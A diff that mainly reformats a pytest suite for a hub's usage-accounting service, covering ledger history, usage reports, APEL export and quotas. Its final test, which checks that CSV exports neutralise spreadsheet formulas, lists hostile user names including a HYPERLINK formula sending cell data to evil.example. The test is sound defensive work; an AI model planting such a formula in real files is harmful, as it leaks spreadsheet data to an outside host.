@@ -15,7 +15,7 @@ import socket
 import subprocess
 import tempfile
 import uuid
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
@@ -26,8 +26,8 @@ from apex_hub.services.accounting import apel, reports
 from apex_hub.services.accounting.db import Ledger, Observation
 from apex_hub.services.accounting.quota import QuotaError, Quotas
 
-T0 = datetime(2026, 11, 30, 22, 0, tzinfo=timezone.utc)
-GIB = 1024 ** 3
+T0 = datetime(2026, 11, 30, 22, 0, tzinfo=UTC)
+GIB = 1024**3
 
 
 def _pg_bin() -> str | None:
@@ -56,6 +56,7 @@ def postgres():
     run_as: list[str] = []
     if os.geteuid() == 0:  # postgres refuses to run as root
         import pwd
+
         try:
             pw = pwd.getpwnam("postgres")
         except KeyError:
@@ -63,11 +64,43 @@ def postgres():
         os.chown(root, pw.pw_uid, pw.pw_gid)
         run_as = ["runuser", "-u", "postgres", "--"]
     try:
-        subprocess.run([*run_as, f"{bindir}/initdb", "-D", str(data), "-A", "trust", "-U", "apex", "-E", "UTF8",
-                        "--no-sync"], check=True, capture_output=True, timeout=120)
-        subprocess.run([*run_as, f"{bindir}/pg_ctl", "-D", str(data), "-l", str(root / "log"), "-w", "-t", "60",
-                        "-o", f"-p {port} -k {root} -c listen_addresses=127.0.0.1 -c fsync=off", "start"],
-                       check=True, capture_output=True, timeout=90)
+        subprocess.run(
+            [
+                *run_as,
+                f"{bindir}/initdb",
+                "-D",
+                str(data),
+                "-A",
+                "trust",
+                "-U",
+                "apex",
+                "-E",
+                "UTF8",
+                "--no-sync",
+            ],
+            check=True,
+            capture_output=True,
+            timeout=120,
+        )
+        subprocess.run(
+            [
+                *run_as,
+                f"{bindir}/pg_ctl",
+                "-D",
+                str(data),
+                "-l",
+                str(root / "log"),
+                "-w",
+                "-t",
+                "60",
+                "-o",
+                f"-p {port} -k {root} -c listen_addresses=127.0.0.1 -c fsync=off",
+                "start",
+            ],
+            check=True,
+            capture_output=True,
+            timeout=90,
+        )
     except (subprocess.CalledProcessError, subprocess.TimeoutExpired) as exc:
         log = (root / "log").read_text() if (root / "log").exists() else ""
         shutil.rmtree(root, ignore_errors=True)
@@ -76,8 +109,11 @@ def postgres():
     try:
         yield base
     finally:
-        subprocess.run([*run_as, f"{bindir}/pg_ctl", "-D", str(data), "-m", "immediate", "-w", "stop"],
-                       capture_output=True, timeout=60)
+        subprocess.run(
+            [*run_as, f"{bindir}/pg_ctl", "-D", str(data), "-m", "immediate", "-w", "stop"],
+            capture_output=True,
+            timeout=60,
+        )
         shutil.rmtree(root, ignore_errors=True)
 
 
@@ -105,9 +141,22 @@ def ledger(db_url):
 
 
 def obs(uid="pod-1", user="alice", start=T0, **kw) -> Observation:
-    base = dict(id=uid, user=user, user_slug=user, server="", namespace=f"apex-{user}", pod=f"jupyter-{user}",
-                group="apex-small", profile="lab", image="img:1", cpu=2.0, memory_bytes=4 * GIB, gpu=0.0,
-                pvc_bytes=10 * GIB, start=start)
+    base = dict(
+        id=uid,
+        user=user,
+        user_slug=user,
+        server="",
+        namespace=f"apex-{user}",
+        pod=f"jupyter-{user}",
+        group="apex-small",
+        profile="lab",
+        image="img:1",
+        cpu=2.0,
+        memory_bytes=4 * GIB,
+        gpu=0.0,
+        pvc_bytes=10 * GIB,
+        start=start,
+    )
     base.update(kw)
     return Observation(**base)
 
@@ -132,8 +181,16 @@ def test_observations_are_idempotent_and_history_is_append_only(ledger):
     assert ledger.set_reason("pod-1", "idle", source="culler")  # the culler's reason is more specific
     assert not ledger.set_reason("pod-1", "external", source="culler")
     s = ledger.session("pod-1")
-    assert (s["user"], s["group"], s["profile"], s["image"], s["cpu"], s["memory_bytes"], s["gpu"],
-            s["pvc_bytes"]) == ("alice", "apex-small", "lab", "img:1", 2.0, 4 * GIB, 0.0, 10 * GIB)
+    assert (
+        s["user"],
+        s["group"],
+        s["profile"],
+        s["image"],
+        s["cpu"],
+        s["memory_bytes"],
+        s["gpu"],
+        s["pvc_bytes"],
+    ) == ("alice", "apex-small", "lab", "img:1", 2.0, 4 * GIB, 0.0, 10 * GIB)
     assert (s["start"], s["stop"], s["stop_reason"], s["status"]) == (T0, stop, "idle", "stopped")
     kinds = [(e["kind"], e["source"]) for e in ledger.events("pod-1")]
     assert kinds == [("opened", "backfill"), ("stopped", "pod-watch"), ("reason", "culler")]
@@ -150,26 +207,70 @@ def test_quota_reason_set_before_the_stop_is_kept(ledger):
 def test_usage_per_day_and_month_split_at_midnight(ledger):
     # 22:00 Nov 30 -> 01:00 Dec 1: 2 h in November, 1 h in December; 2 cores, 4 GiB
     ledger.observe(obs(stop=T0 + timedelta(hours=3), stop_reason="user"), source="t")
-    ledger.observe(obs("pod-2", user="bob", group=None, profile="gpu", gpu=1.0, cpu=1.0, memory_bytes=GIB,
-                       start=T0 + timedelta(hours=1)), source="t")  # running: counts up to `until`
-    since, until = datetime(2026, 11, 1, tzinfo=timezone.utc), T0 + timedelta(hours=5)
-    rows = reports.usage(ledger.iter_sessions(since=since, until=until), since=since, until=until,
-                         period="month", by="user")
+    ledger.observe(
+        obs(
+            "pod-2",
+            user="bob",
+            group=None,
+            profile="gpu",
+            gpu=1.0,
+            cpu=1.0,
+            memory_bytes=GIB,
+            start=T0 + timedelta(hours=1),
+        ),
+        source="t",
+    )  # running: counts up to `until`
+    since, until = datetime(2026, 11, 1, tzinfo=UTC), T0 + timedelta(hours=5)
+    rows = reports.usage(
+        ledger.iter_sessions(since=since, until=until), since=since, until=until, period="month", by="user"
+    )
     assert rows == [
-        {"period": "2026-11", "user": "alice", "sessions": 1, "wall_hours": 2.0, "cpu_hours": 4.0,
-         "memory_gib_hours": 8.0, "gpu_hours": 0.0},
-        {"period": "2026-11", "user": "bob", "sessions": 1, "wall_hours": 1.0, "cpu_hours": 1.0,
-         "memory_gib_hours": 1.0, "gpu_hours": 1.0},
-        {"period": "2026-12", "user": "alice", "sessions": 1, "wall_hours": 1.0, "cpu_hours": 2.0,
-         "memory_gib_hours": 4.0, "gpu_hours": 0.0},
-        {"period": "2026-12", "user": "bob", "sessions": 1, "wall_hours": 3.0, "cpu_hours": 3.0,
-         "memory_gib_hours": 3.0, "gpu_hours": 3.0},
+        {
+            "period": "2026-11",
+            "user": "alice",
+            "sessions": 1,
+            "wall_hours": 2.0,
+            "cpu_hours": 4.0,
+            "memory_gib_hours": 8.0,
+            "gpu_hours": 0.0,
+        },
+        {
+            "period": "2026-11",
+            "user": "bob",
+            "sessions": 1,
+            "wall_hours": 1.0,
+            "cpu_hours": 1.0,
+            "memory_gib_hours": 1.0,
+            "gpu_hours": 1.0,
+        },
+        {
+            "period": "2026-12",
+            "user": "alice",
+            "sessions": 1,
+            "wall_hours": 1.0,
+            "cpu_hours": 2.0,
+            "memory_gib_hours": 4.0,
+            "gpu_hours": 0.0,
+        },
+        {
+            "period": "2026-12",
+            "user": "bob",
+            "sessions": 1,
+            "wall_hours": 3.0,
+            "cpu_hours": 3.0,
+            "memory_gib_hours": 3.0,
+            "gpu_hours": 3.0,
+        },
     ]
-    by_group = reports.usage(ledger.iter_sessions(since=since, until=until), since=since, until=until,
-                             period="day", by="group")
+    by_group = reports.usage(
+        ledger.iter_sessions(since=since, until=until), since=since, until=until, period="day", by="group"
+    )
     assert [(r["period"], r["group"], r["cpu_hours"]) for r in by_group] == [
-        ("2026-11-30", "", 1.0), ("2026-11-30", "apex-small", 4.0),
-        ("2026-12-01", "", 3.0), ("2026-12-01", "apex-small", 2.0)]
+        ("2026-11-30", "", 1.0),
+        ("2026-11-30", "apex-small", 4.0),
+        ("2026-12-01", "", 3.0),
+        ("2026-12-01", "apex-small", 2.0),
+    ]
     csv_text = reports.to_csv(by_group, ["period", "group", *reports.METRICS])
     assert csv_text.splitlines()[0] == "period,group,sessions,wall_hours,cpu_hours,memory_gib_hours,gpu_hours"
     assert csv_text.splitlines()[2] == "2026-11-30,apex-small,1,2.0,4.0,8.0,0.0"
@@ -177,27 +278,50 @@ def test_usage_per_day_and_month_split_at_midnight(ledger):
 
 def test_apel_records_parse_back_field_by_field_and_are_exported_once(ledger, tmp_path):
     stop = T0 + timedelta(hours=3, seconds=7)
-    ledger.observe(obs(stop=stop, stop_reason="user", cpu=1.5, memory_bytes=3 * GIB + 1,
-                       pvc_bytes=10 * GIB), source="t")
+    ledger.observe(
+        obs(stop=stop, stop_reason="user", cpu=1.5, memory_bytes=3 * GIB + 1, pvc_bytes=10 * GIB), source="t"
+    )
     ledger.observe(obs("pod-2", user="bob", group=None, pvc_bytes=None), source="t")  # running: not exported
-    cfg = apel.ApelSettings(str(tmp_path / "apel"), "APEX-ESRIN", cloud_compute_service="apex-hub.example.org",
-                            benchmark_type="HEPSPEC", benchmark=10.5)
+    cfg = apel.ApelSettings(
+        str(tmp_path / "apel"),
+        "APEX-ESRIN",
+        cloud_compute_service="apex-hub.example.org",
+        benchmark_type="HEPSPEC",
+        benchmark=10.5,
+    )
     [path] = apel.export(ledger, cfg)
     content = path.read_text()
     assert content.startswith("APEL-cloud-message: v0.4\n") and content.rstrip().endswith("%%")
     [rec] = apel.parse(content)
     assert rec == {
-        "VMUUID": "pod-1", "SiteName": "APEX-ESRIN", "CloudComputeService": "apex-hub.example.org",
-        "MachineName": "apex-alice/jupyter-alice", "LocalUserId": "alice", "LocalGroupId": "apex-small",
-        "GlobalUserName": "alice", "FQAN": "/apex-small/Role=NULL/Capability=NULL", "Status": "completed",
-        "StartTime": str(int(T0.timestamp())), "EndTime": str(int(stop.timestamp())), "SuspendDuration": "0",
-        "WallDuration": "10807", "CpuDuration": str(round(1.5 * 10807)), "CpuCount": "2", "PublicIPCount": "0",
-        "Memory": "3072", "Disk": "11", "BenchmarkType": "HEPSPEC", "Benchmark": "10.5", "ImageId": "img:1",
+        "VMUUID": "pod-1",
+        "SiteName": "APEX-ESRIN",
+        "CloudComputeService": "apex-hub.example.org",
+        "MachineName": "apex-alice/jupyter-alice",
+        "LocalUserId": "alice",
+        "LocalGroupId": "apex-small",
+        "GlobalUserName": "alice",
+        "FQAN": "/apex-small/Role=NULL/Capability=NULL",
+        "Status": "completed",
+        "StartTime": str(int(T0.timestamp())),
+        "EndTime": str(int(stop.timestamp())),
+        "SuspendDuration": "0",
+        "WallDuration": "10807",
+        "CpuDuration": str(round(1.5 * 10807)),
+        "CpuCount": "2",
+        "PublicIPCount": "0",
+        "Memory": "3072",
+        "Disk": "11",
+        "BenchmarkType": "HEPSPEC",
+        "Benchmark": "10.5",
+        "ImageId": "img:1",
         "CloudType": "apex-hub",
     }
     assert list(rec) == [f for f in apel.FIELDS if f in rec]  # v0.4 field order
     assert apel.export(ledger, cfg) == []  # idempotent: nothing new, no file
-    ledger.observe(obs("pod-2", user="bob", group=None, pvc_bytes=None, stop=T0 + timedelta(hours=1)), source="t")
+    ledger.observe(
+        obs("pod-2", user="bob", group=None, pvc_bytes=None, stop=T0 + timedelta(hours=1)), source="t"
+    )
     [second] = apel.export(ledger, cfg)
     [rec2] = apel.parse(second.read_text())
     assert rec2["VMUUID"] == "pod-2" and rec2["FQAN"] == "None"
@@ -210,30 +334,48 @@ def test_apel_batches(ledger, tmp_path):
         ledger.observe(obs(f"pod-{i}", stop=T0 + timedelta(minutes=i + 1)), source="t")
     files = apel.export(ledger, apel.ApelSettings(str(tmp_path), "SITE", batch=2))
     assert [len(apel.parse(f.read_text())) for f in files] == [2, 2, 1]
-    assert sorted(r["VMUUID"] for f in files for r in apel.parse(f.read_text())) == [f"pod-{i}" for i in range(5)]
+    assert sorted(r["VMUUID"] for f in files for r in apel.parse(f.read_text())) == [
+        f"pod-{i}" for i in range(5)
+    ]
 
 
 def test_quotas(ledger, tmp_path):
     path = tmp_path / "quotas.yaml"
-    path.write_text(yaml.safe_dump({"period": "month", "groups": {"apex-small": {"cpu_hours": 10}},
-                                    "users": {"bob": {"gpu_hours": 100}}, "default": {"cpu_hours": 1}}))
+    path.write_text(
+        yaml.safe_dump(
+            {
+                "period": "month",
+                "groups": {"apex-small": {"cpu_hours": 10}},
+                "users": {"bob": {"gpu_hours": 100}},
+                "default": {"cpu_hours": 1},
+            }
+        )
+    )
     q = Quotas.load(path)
     now = T0 + timedelta(hours=1, minutes=30)  # alice: 2 cores × 1.5 h = 3 CPU-hours so far
     ledger.observe(obs(), source="t")
     st = q.check(ledger, "alice", ["apex-small"], now=now)
     assert not st.allowed  # the default budget (1 CPU-hour) applies to alice herself
     assert [(lim.scope, lim.metric, lim.budget, round(lim.usage, 3)) for lim in st.limits] == [
-        ("default", "cpu_hours", 1.0, 3.0), ("group", "cpu_hours", 10.0, 3.0)]
-    assert st.reset == datetime(2026, 12, 1, tzinfo=timezone.utc)
-    assert st.message == ("Usage budget exhausted: alice's budget of 1 CPU-hours per month, used 3.00. "
-                          "It resets on 2026-12-01 00:00 UTC.")
+        ("default", "cpu_hours", 1.0, 3.0),
+        ("group", "cpu_hours", 10.0, 3.0),
+    ]
+    assert st.reset == datetime(2026, 12, 1, tzinfo=UTC)
+    assert st.message == (
+        "Usage budget exhausted: alice's budget of 1 CPU-hours per month, used 3.00. "
+        "It resets on 2026-12-01 00:00 UTC."
+    )
     assert q.check(ledger, "bob", [], now=now).allowed
     carol = q.check(ledger, "carol", ["apex-small"], now=now)  # the group has used 3 of 10: carol may start
     assert carol.allowed and [round(lim.usage, 3) for lim in carol.limits] == [0.0, 3.0]
     assert q.check(ledger, "dave", [], now=now).limits[0].scope == "default"
     assert Quotas().check(ledger, "alice", ["apex-small"], now=now) is None  # no budget applies
-    for bad, msg in (({"period": "year"}, "period"), ({"groups": {"g": {"cpu": 1}}}, "groups.g.cpu"),
-                     ({"users": {"u": {"cpu_hours": -1}}}, "users.u.cpu_hours"), ({"budget": 1}, "unknown")):
+    for bad, msg in (
+        ({"period": "year"}, "period"),
+        ({"groups": {"g": {"cpu": 1}}}, "groups.g.cpu"),
+        ({"users": {"u": {"cpu_hours": -1}}}, "users.u.cpu_hours"),
+        ({"budget": 1}, "unknown"),
+    ):
         with pytest.raises(QuotaError, match=msg):
             Quotas.from_dict(bad)
 
@@ -259,21 +401,35 @@ def test_events_page(ledger):
 @pytest.mark.parametrize("period, by", [("month", "user"), ("day", "group"), ("day", "profile")])
 def test_sql_sums_agree_with_the_python_report(ledger, period, by):
     import random
+
     rng = random.Random(3)
-    start0 = datetime(2026, 10, 30, tzinfo=timezone.utc)
+    start0 = datetime(2026, 10, 30, tzinfo=UTC)
     batch = []
     for i in range(300):
         start = start0 + timedelta(seconds=rng.randrange(40 * 86400))
         stop = None if i % 17 == 0 else start + timedelta(seconds=rng.randrange(60, 30 * 3600))
-        batch.append(obs(f"s{i}", user=f"u{i % 7}", group=rng.choice(["g1", "g2", None]), profile=f"p{i % 3}",
-                         cpu=rng.choice([0.5, 2.0]), memory_bytes=rng.choice([GIB, 3 * GIB]), gpu=rng.choice([0, 1]),
-                         start=start, stop=stop))
+        batch.append(
+            obs(
+                f"s{i}",
+                user=f"u{i % 7}",
+                group=rng.choice(["g1", "g2", None]),
+                profile=f"p{i % 3}",
+                cpu=rng.choice([0.5, 2.0]),
+                memory_bytes=rng.choice([GIB, 3 * GIB]),
+                gpu=rng.choice([0, 1]),
+                start=start,
+                stop=stop,
+            )
+        )
     ledger.observe_many(batch, source="t")
-    since, until = datetime(2026, 11, 1, tzinfo=timezone.utc), datetime(2026, 12, 5, tzinfo=timezone.utc)
+    since, until = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 5, tzinfo=UTC)
     fast = reports.ledger_usage(ledger, since=since, until=until, period=period, by=by)
-    slow = reports.usage(ledger.iter_sessions(since=since, until=until), since=since, until=until, period=period,
-                         by=by)
-    assert [(r["period"], r[by], r["sessions"]) for r in fast] == [(r["period"], r[by], r["sessions"]) for r in slow]
+    slow = reports.usage(
+        ledger.iter_sessions(since=since, until=until), since=since, until=until, period=period, by=by
+    )
+    assert [(r["period"], r[by], r["sessions"]) for r in fast] == [
+        (r["period"], r[by], r["sessions"]) for r in slow
+    ]
     for f, s in zip(fast, slow):
         for m in reports.METRICS[1:]:
             assert f[m] == pytest.approx(s[m], abs=1e-4), (f, s)
@@ -284,10 +440,13 @@ def test_sql_sums_agree_with_the_python_report(ledger, period, by):
 def test_csv_exports_never_carry_a_live_spreadsheet_formula():
     """A user (or group, or profile) named like a formula stays text when the export is opened in a spreadsheet."""
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "@cmd", "\tx", "\r=1"]
-    rows = [{"user": name, "cpu_hours": -1.5, "sessions": 2} for name in hostile] + [{"user": "alice", "cpu_hours": 0}]
+    rows = [{"user": name, "cpu_hours": -1.5, "sessions": 2} for name in hostile] + [
+        {"user": "alice", "cpu_hours": 0}
+    ]
     text = reports.to_csv(rows, ["user", "cpu_hours", "sessions"])
     import csv as csv_module
     import io as io_module
+
     parsed = list(csv_module.DictReader(io_module.StringIO(text, newline="")))
     assert [r["user"] for r in parsed] == ["'" + n for n in hostile] + ["alice"]
     assert parsed[0]["cpu_hours"] == "-1.5"  # numbers are numbers, not text
